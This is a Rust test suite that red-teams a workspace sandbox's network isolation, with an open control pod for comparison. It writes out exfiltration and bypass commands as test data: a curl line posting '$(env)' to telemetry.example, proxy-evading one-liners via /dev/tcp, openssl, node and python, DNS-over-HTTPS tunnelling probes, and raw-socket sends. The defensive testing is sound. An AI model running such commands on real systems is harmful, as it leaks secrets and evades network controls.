//! Red team, group A: from a workspace, nothing is reached. Each attack also runs in a pod that is no workspace, where it
//! succeeds.

use std::{
    collections::BTreeMap,
    net::IpAddr,
    time::{Duration, SystemTime},
};

use anyhow::{Result, ensure};
use ws_tests::{
    audit::Audit,
    lab::{Arrival, Lab},
    namespace::with_namespace,
    pod::give_ipv6,
    probe::{INTERNET, INTERNET_V6, Target, canary, from_pod, from_workspace, open_pod},
    project::Project,
    unconfined::with_unconfined_pod,
    wait::{PATIENCE, eventually},
    ws::Ws,
};

/// The pod that is no workspace.
pub(crate) const OPEN: &str = "open";
/// The company's server, which writes down who comes, as those of the internet do.
pub(crate) const COMPANY: &str = "10.77.0.10";

/// A workspace and a pod that is none both try; the one reaches nothing, the other everything.
pub(crate) async fn only_the_open_pod_reaches(
    targets: impl AsyncFnOnce(&Lab, &str) -> Result<Vec<Target>>,
) -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, began) = (Ws::new(lab, namespace)?, SystemTime::now());
        open_pod(lab, namespace, OPEN).await?;
        let targets = targets(lab, namespace).await?;
        eventually(PATIENCE, "an open pod that reaches all of it", async || {
            let reached = from_pod(lab, namespace, OPEN, &targets).await?;
            ensure!(reached.len() == targets.len(), "of {targets:?} it reaches {reached:?} only");
            anyhow::Ok(Some(()))
        })
        .await?;
        let audit = Audit::of(lab, namespace, "caged");
        ws.up("caged", Project::empty()?.path()).await?;
        let reached = from_workspace(&ws, "caged", &targets).await?;
        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
        nothing_arrived_from(lab, namespace, "caged", began).await?;
        audit.is_of_one_request(&ws).await
    })
    .await
}

/// Fails if a sink saw anything of a pod since then: a datagram, or a connection, be it without a byte.
pub(crate) async fn nothing_arrived_from(
    lab: &Lab,
    namespace: &str,
    pod: &str,
    since: SystemTime,
) -> Result<()> {
    let arrived = arrivals_from(lab, namespace, pod, since).await?;
    ensure!(arrived.is_empty(), "of {pod} arrived {arrived:?}");
    Ok(())
}

/// What the sinks saw of a pod since then.
pub(crate) async fn arrivals_from(
    lab: &Lab,
    namespace: &str,
    pod: &str,
    since: SystemTime,
) -> Result<Vec<Arrival>> {
    let address = lab.fields(namespace, &format!("pod/{pod}"), "{.status.podIP}").await?;
    let address: IpAddr = address.parse()?;
    lab.arrivals(since, |sender| sender == address)
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a01_the_seed_line_shows_the_tests_and_sends_nothing() -> Result<()> {
    const SEED: &str = r#"npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)""#;
    // The line ends as its last command does: curl says that the proxy refused.
    const REFUSED: i32 = 56;
    with_namespace(async |lab, namespace| {
        let (ws, canary, began) = (Ws::new(lab, namespace)?, canary()?, SystemTime::now());
        let audit = Audit::of(lab, namespace, "seed");
        ws.up("seed", Project::sample()?.path()).await?;
        let run = async |line: &str| ws.bash("seed", &format!("export CANARY={canary}\n{line}")).await;
        let seed = run(SEED).await?.code(REFUSED)?;
        ensure!(seed.stdout.contains("# pass 3"), "the tests ran: {seed}");
        // The session goes on.
        let plain = run("curl -s http://telemetry.example/collect -d \"$(env)\"").await?.ok()?;
        ensure!(plain.stdout.contains("telemetry.example denied"), "plain HTTP says why: {plain}");
        eventually(PATIENCE, "two refusals", async || {
            // npm may have asked for its own news.
            let mut told = audit.decisions(&ws).await?;
            told.retain(|line| line["host"] == "telemetry.example");
            let are_refused = told.iter().all(|line| line["reason"] == "host-not-allowed");
            ensure!(told.len() == 2 && are_refused, "{told:?}");
            anyhow::Ok(Some(()))
        })
        .await?;
        audit.holds_nothing_that_was_sent(&ws, &[]).await?;
        eventually(Duration::from_secs(10), "the refusal in the status", async || {
            let described = ws.run(&["describe", "seed"]).await?.ok()?;
            anyhow::Ok(described.stdout.contains("telemetry.example").then_some(()))
        })
        .await?;
        // What would arrive there by TLS could not be read: no connection is opened, of the pod's or of a gateway's, nor is the name
        // asked for.
        ensure!(!lab.has_sunk(&canary)?, "it arrived");
        nothing_arrived_from(lab, namespace, "seed", began).await?;
        let gateways = lab.gateways().await?;
        let mut from_gateways = lab.arrivals(began, |sender| gateways.contains(&sender))?;
        from_gateways.retain(|arrival| {
            arrival.local.ip().to_canonical().to_string() == INTERNET
                && [80, 443].contains(&arrival.local.port())
        });
        ensure!(from_gateways.is_empty(), "of a gateway arrived {from_gateways:?}");
        ensure!(!lab.resolved()?.contains(" telemetry.example. "), "the name was asked for");

        open_pod(lab, namespace, OPEN).await?;
        let control = format!(
            "curl -s --resolve telemetry.example:80:{INTERNET} http://telemetry.example/collect -d {canary}"
        );
        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &control]).await?;
        eventually(PATIENCE, "the control's request in the sink", async || {
            let arrived = arrivals_from(lab, namespace, OPEN, began).await?;
            anyhow::Ok((!arrived.is_empty() && lab.sunk()?.contains(&canary)).then_some(()))
        })
        .await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a02_raw_sockets_reach_no_port_of_the_internet_or_the_company() -> Result<()> {
    only_the_open_pod_reaches(async |_, _| {
        let canary = canary()?;
        let ports = [22, 25, 53, 80, 443, 853, 3478, 8443];
        Ok([INTERNET, "44.0.113.1"]
            .iter()
            .flat_map(|host| ports.map(|port| Target::tcp(host, port, &canary)))
            .chain([Target::tcp(COMPANY, 80, &canary)])
            .collect())
    })
    .await
}

/// Programs that send `$2` to `$1` and know of no proxy.
const PAST_THE_PROXY: [&str; 7] = [
    "curl -s --noproxy '*' http://$1/$2",
    "curl -sk --noproxy '*' https://$1/$2",
    "env -i curl -s http://$1:8080/$2",
    "echo $2 > /dev/tcp/$1/22",
    "echo $2 | openssl s_client -connect $1:8443",
    "node -e 'require(`net`).connect(25, process.argv[1], function () { this.end(process.argv[2]) })' $1 $2",
    "python3 -c 'import socket, sys; socket.create_connection((sys.argv[1], 853)).sendall(sys.argv[2].encode())' $1 $2",
];
/// Where they arrive.
const PORTS_PAST_THE_PROXY: [u16; 7] = [80, 443, 8080, 22, 8443, 25, 853];

#[tokio::test]
#[ignore = "needs the lab"]
async fn a02_no_program_leads_past_the_gateway() -> Result<()> {
    // All at once: some of them never hear that nobody answers, and where somebody does, some take seconds to begin.
    let line = |canary: &str, seconds: u32| {
        let run = |line: &&str| {
            let line = line.replace('\'', r"'\''");
            format!(
                "timeout {seconds} bash -c '{line}' bash {INTERNET} {canary} </dev/null >/dev/null 2>&1 && echo sent & "
            )
        };
        PAST_THE_PROXY.iter().map(run).collect::<String>() + "wait"
    };
    with_namespace(async |lab, namespace| {
        let (ws, began) = (Ws::new(lab, namespace)?, SystemTime::now());
        let (inside, outside, audit) = (canary()?, canary()?, Audit::of(lab, namespace, "caged"));
        ws.up("caged", Project::empty()?.path()).await?;
        let caged = ws.bash("caged", &line(&inside, 5)).await?.ok()?;
        ensure!(!caged.stdout.contains("sent"), "{caged}");

        open_pod(lab, namespace, OPEN).await?;
        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &line(&outside, 30)]).await?.ok()?;
        eventually(PATIENCE, "the control's connections in the sink", async || {
            let arrived = arrivals_from(lab, namespace, OPEN, began).await?;
            let missing = PORTS_PAST_THE_PROXY
                .iter()
                .find(|port| !arrived.iter().any(|arrival| arrival.local.port() == **port));
            ensure!(missing.is_none(), "none at {missing:?}");
            anyhow::Ok(lab.sunk()?.contains(&outside).then_some(()))
        })
        .await?;
        ensure!(!lab.has_sunk(&inside)?, "it arrived");
        nothing_arrived_from(lab, namespace, "caged", began).await?;
        audit.is_of_one_request(&ws).await
    })
    .await
}

/// Asks the kernel for sockets that are neither TCP's nor UDP's, and sends what `canary` says through those that can be had to the
/// address. Prints what became of each: `answered`, `silent`, or the error's name.
const OTHER_SOCKETS: &str = r#"
import errno, json, socket, struct, sys
address, canary = sys.argv[1:]
payload = canary.encode()

def echo(kind):
    """An echo request (RFC 792)."""
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        s.settimeout(2)
        words = struct.unpack(f"!{4 + len(payload) // 2}H", struct.pack("!BBHHH", 8, 0, 0, 7, 1) + payload)
        total = sum(words)
        total = (total >> 16) + (total & 0xFFFF)
        total += total >> 16
        s.sendto(struct.pack("!BBHHH", 8, 0, ~total & 0xFFFF, 7, 1) + payload, (address, 0))
        # The first that comes may be somebody else's.
        return any(payload in s.recv(2048) for _ in range(5))

def connect(kind, protocol, family=socket.AF_INET):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(2)
        s.connect((address if family == socket.AF_INET else "::1", 443))
        return True

def outcome(attempt):
    try:
        return "answered" if attempt() else "silent"
    except TimeoutError:
        return "silent"
    except OSError as error:
        return errno.errorcode[error.errno]

SCTP, DCCP, UDP_LITE = 132, 33, 136
print(json.dumps({
    "ping": outcome(lambda: echo(socket.SOCK_DGRAM)),
    "raw ICMP": outcome(lambda: echo(socket.SOCK_RAW)),
    "raw IP": outcome(lambda: connect(socket.SOCK_RAW, socket.IPPROTO_RAW)),
    "ping by IPv6": outcome(lambda: connect(socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, socket.AF_INET6)),
    "raw ICMPv6": outcome(lambda: connect(socket.SOCK_RAW, socket.IPPROTO_ICMPV6, socket.AF_INET6)),
    "raw IPv6": outcome(lambda: connect(socket.SOCK_RAW, socket.IPPROTO_RAW, socket.AF_INET6)),
    "SCTP": outcome(lambda: connect(socket.SOCK_STREAM, SCTP)),
    "SCTP by messages": outcome(lambda: connect(socket.SOCK_SEQPACKET, SCTP)),
    "DCCP": outcome(lambda: connect(6, DCCP)),
    "UDP-Lite": outcome(lambda: connect(socket.SOCK_DGRAM, UDP_LITE)),
}))
"#;

#[tokio::test]
#[ignore = "needs the lab"]
async fn a02_neither_pings_nor_raw_packets_nor_other_protocols_leave() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, began) = (Ws::new(lab, namespace)?, SystemTime::now());
        let (inside, outside, audit) = (canary()?, canary()?, Audit::of(lab, namespace, "caged"));
        ws.up("caged", Project::empty()?.path()).await?;
        let arguments = ["attach", "caged", "--", "python3", "-c", OTHER_SOCKETS, INTERNET, &inside];
        let inside = ws.run(&arguments).await?.ok()?;
        let inside: BTreeMap<String, String> = serde_json::from_str(&inside.stdout)?;
        // Our own filter's word: a kernel that does not know a protocol says another.
        ensure!(inside.len() == 10 && inside.values().all(|became| became == "EPERM"), "{inside:?}");
        nothing_arrived_from(lab, namespace, "caged", began).await?;
        audit.is_of_one_request(&ws).await?;

        // The control has the right to make packets, and is answered.
        let outside = with_unconfined_pod(lab, async |open| {
            let mut arguments = open.exec();
            arguments.extend(["python3", "-c", OTHER_SOCKETS, INTERNET, &outside]);
            lab.kubectl(&arguments).await?.ok()
        })
        .await?;
        let outside: BTreeMap<String, String> = serde_json::from_str(&outside.stdout)?;
        ensure!(outside.get("raw ICMP").is_some_and(|became| became == "answered"), "{outside:?}");
        ensure!(outside.values().all(|became| became != "EPERM"), "nothing forbids it there: {outside:?}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a03_no_question_for_a_name_leaves_in_tls() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, inside, outside) = (Ws::new(lab, namespace)?, canary()?, canary()?);
        let (began, audit) = (SystemTime::now(), Audit::of(lab, namespace, "mute"));
        ws.up("mute", Project::empty()?.path()).await?;
        open_pod(lab, namespace, OPEN).await?;
        // DNS over HTTPS (RFC 8484) and over TLS (RFC 7858) to an address, which is told the name in the handshake already.
        let ask = |word: &str| {
            let name = format!("{word}.telemetry.example");
            let curl = "curl -sk -o /dev/null --max-time 3";
            format!(
                "for port in 443 853 8443; do \
                     {curl} --noproxy '*' --resolve {name}:$port:{INTERNET} \"https://{name}:$port/dns-query?dns={word}\"; done; \
                 {curl} 'https://{INTERNET}/dns-query?dns={word}'; {curl} --doh-url https://{INTERNET}/dns-query https://{name}/; true"
            )
        };
        ws.bash("mute", &ask(&inside)).await?.ok()?;
        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &ask(&outside)]).await?.ok()?;
        eventually(PATIENCE, "the control's handshakes in the sinks", async || {
            let sunk = lab.sunk()?;
            anyhow::Ok((sunk.matches(&format!("{outside}.telemetry.example")).count() >= 3).then_some(()))
        })
        .await?;
        ensure!(!lab.has_sunk(&inside)?, "a handshake of the workspace arrived");
        ensure!(!lab.has_resolved(&inside)?, "a name was asked for");
        nothing_arrived_from(lab, namespace, "mute", began).await?;
        audit.holds_nothing_that_was_sent(&ws, &[]).await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a03_no_datagram_leaves() -> Result<()> {
    const PORTS: [u16; 5] = [53, 123, 443, 3478, 51820];
    with_namespace(async |lab, namespace| {
        let (ws, began) = (Ws::new(lab, namespace)?, SystemTime::now());
        let audit = Audit::of(lab, namespace, "mute");
        ws.up("mute", Project::empty()?.path()).await?;
        open_pod(lab, namespace, OPEN).await?;
        // The sinks answer nothing, so what counts is what arrived.
        let payload = |word: &str, port: u16| format!("{word}-{port}.");
        let datagrams = |word: &str| PORTS.map(|port| Target::udp(INTERNET, port, &payload(word, port)));
        let (from_inside, from_outside) = (canary()?, canary()?);
        from_workspace(&ws, "mute", &datagrams(&from_inside)).await?;
        from_pod(lab, namespace, OPEN, &datagrams(&from_outside)).await?;
        eventually(PATIENCE, "the control's datagrams in the sinks", async || {
            let sunk = lab.sunk()?;
            anyhow::Ok(PORTS.iter().all(|port| sunk.contains(&payload(&from_outside, *port))).then_some(()))
        })
        .await?;
        ensure!(!lab.has_sunk(&from_inside)?, "a datagram of the workspace arrived");
        nothing_arrived_from(lab, namespace, "mute", began).await?;
        audit.is_of_one_request(&ws).await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a07_ipv6_leads_nowhere() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, canary, began) = (Ws::new(lab, namespace)?, canary()?, SystemTime::now());
        let audit = Audit::of(lab, namespace, "six");
        ws.up("six", Project::empty()?.path()).await?;
        give_ipv6(lab, namespace, "six", 6).await?;
        // Neither NAT64 nor 6to4: on this cluster nobody takes either, so that nothing would be proven.
        let targets = [INTERNET_V6, "::ffff:20.0.113.66"].map(|host| Target::tcp(host, 80, &canary));
        let reached = from_workspace(&ws, "six", &targets).await?;
        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
        from_workspace(&ws, "six", &[Target::udp(INTERNET_V6, 53, &canary)]).await?;
        ensure!(!lab.has_sunk(&canary)?, "something arrived");
        nothing_arrived_from(lab, namespace, "six", began).await?;
        // As it was given above.
        let own: IpAddr = "fd00:90::6".parse()?;
        let by_ipv6 = lab.arrivals(began, |sender| sender == own)?;
        ensure!(by_ipv6.is_empty(), "by IPv6 arrived {by_ipv6:?}");
        audit.is_of_one_request(&ws).await?;
        // The lab's enforcer lets no pod send IPv6. That it would arrive is shown where nothing enforces, in enforcement.rs.
        open_pod(lab, namespace, OPEN).await?;
        let control = from_pod(lab, namespace, OPEN, &targets).await?;
        ensure!(control.iter().any(|target| target.host.starts_with("::ffff:")), "nothing is proven");
        Ok(())
    })
    .await
}
